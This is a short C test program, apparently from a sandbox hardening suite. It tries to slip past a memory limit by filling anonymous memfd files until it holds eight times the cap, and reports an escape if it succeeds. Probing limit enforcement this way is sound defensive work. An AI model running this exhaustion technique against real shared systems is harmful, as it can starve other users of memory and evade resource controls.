/* SPDX-License-Identifier: MIT */
/* Memory in files without a name is charged to no address space. Stops at eight times the limit. */
#include "attack.h"

#define STEP   (1 * MEBI)
#define ENOUGH (8L * LIMIT_MEMORY)

int main(int argc, char **argv)
{
	static char block[STEP];
	size_t got = 0;

	begin(argc, argv);
	memset(block, 1, sizeof(block));
	signal(SIGXFSZ, SIG_IGN);
	while (got < ENOUGH) {
		int fd = memfd_create("fill", 0);

		if (fd < 0)
			break;
		for (int i = 0; i < 64 && got < ENOUGH; i++) {
			if (write(fd, block, sizeof(block)) <= 0 &&
				fallocate(fd, 0, i * STEP, STEP) < 0)
				break;
			got += STEP;
		}
	}
	if (got >= 2L * LIMIT_MEMORY)
		escaped("%zu MiB in memfds, the limit is %d", got / MEBI, LIMIT_MEMORY / MEBI);
	return finish();
}
